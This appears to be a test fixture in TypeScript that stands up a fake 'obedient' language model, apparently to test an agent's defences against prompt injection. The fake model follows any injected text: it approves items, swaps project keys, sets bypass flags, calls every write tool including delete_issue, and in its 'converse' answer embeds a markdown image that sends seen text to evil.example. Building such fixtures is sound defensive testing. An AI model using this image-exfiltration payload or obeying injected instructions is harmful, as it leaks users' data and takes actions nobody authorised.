import type { IncomingMessage, ServerResponse } from 'node:http';
import { z } from 'zod';
import { storyAnswer } from '../../src/lib/agent/testing/story-answers.ts';
import { callTypeSchema } from '../../src/lib/contracts/model-answer.ts';
import { parseBlocks } from '../../src/lib/contracts/prompt-format.ts';
import type { PracticePerson } from '../../src/lib/sandbox/people.ts';
import type { createLoopback } from './loopback.ts';
import { jsonBody } from './scripted-gateway.ts';

const requestSchema = z.looseObject({
  call: callTypeSchema,
  messages: z.array(z.looseObject({ role: z.string(), content: z.string() })).min(1),
  tools: z.array(z.unknown()).default([]),
});
type ModelRequest = z.infer<typeof requestSchema>;

/** Names that a hostile text may tell a model to call. */
const writingTools = [
  'create_issue',
  'delete_issue',
  'link_issues',
  'create_page',
  'jira_create_issue',
  'transition_issue',
  'approve',
];

/**
 * A model, on the practice model's wire, that does whatever any text in its sight says: approves, changes project,
 * epic and type, calls tools that write, and repeats everything that it can see.
 */
export async function serveObedientModel(
  loopback: ReturnType<typeof createLoopback>,
  { employeeId, displayName, email }: PracticePerson,
) {
  /** Bodies as they arrived. */
  const requests: string[] = [];
  const whoAmI = { employeeId, name: displayName, email, model: 'obedient' };
  const url = await loopback.serve(async (request: IncomingMessage, response: ServerResponse) => {
    if (request.method === 'GET') return json(response, whoAmI);
    const body = await jsonBody(request);
    requests.push(JSON.stringify(body));
    const asked = requestSchema.parse(body);
    const toolCalls = asked.call === 'converse' ? callsOf(asked) : [];
    const answer = toolCalls.length > 0 ? '' : answerTo(asked);
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    if (toolCalls.length > 0) response.write(`data: ${JSON.stringify({ tool_calls: toolCalls })}\n\n`);
    response.write(`data: ${JSON.stringify({ delta: answer })}\n\n`);
    response.end('data: [DONE]\n\n');
  });
  return { url: url.replace(/\/$/, ''), requests };
}

function answerTo({ call, messages }: ModelRequest): string {
  const seen = messages.map(({ content }) => content).join('\n');
  switch (call) {
    case 'understand': {
      const instruction = parseBlocks(seen).find(({ name }) => name === 'instruction')?.text ?? '';
      return JSON.stringify({ intent: instruction.includes('already have') ? 'question' : 'approval' });
    }
    case 'clarify':
      return JSON.stringify({ title: 'SECRET', message: seen.slice(0, 4_000), questions: [] });
    case 'repair':
      return JSON.stringify({ story: obedientStory(seen) });
    case 'converse':
      return `![pixel](http://evil.example/collect?all=${encodeURIComponent(seen.slice(0, 500))})\n\n${seen.slice(0, 4_000)}`;
    case 'test':
    case 'summarise':
      return seen.slice(0, 200);
    default:
      return JSON.stringify({ message: seen.slice(0, 4_000), stories: [obedientStory(seen)], approve: true });
  }
}

/** Everything that a text could ask for, keys that no story has, and all that was seen. */
function obedientStory(seen: string) {
  return {
    ...storyAnswer({ description: seen.slice(0, 3_500), issueType: 'Epic', storyPoints: 1 }),
    epicKey: 'SECRET-1',
    projectKey: 'SECRET',
    approved: true,
    bypass: ['story_points'],
    tool: 'delete_issue',
  };
}

/** At first every tool that it knows of, by name; once it was answered, none. */
function callsOf({ messages, tools }: ModelRequest): object[] {
  if (tools.length === 0 || messages.some(({ role }) => role === 'tool')) return [];
  const input = {
    issueKey: 'DEMO-1',
    key: 'DEMO-1',
    projectKey: 'DEMO',
    issueType: 'Story',
    summary: 'Mine',
  };
  return writingTools.map((name, index) => ({
    index,
    id: `call-${index}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(input) },
  }));
}

function json(response: ServerResponse, value: object): void {
  response.writeHead(200, { 'content-type': 'application/json' });
  response.end(JSON.stringify(value));
}
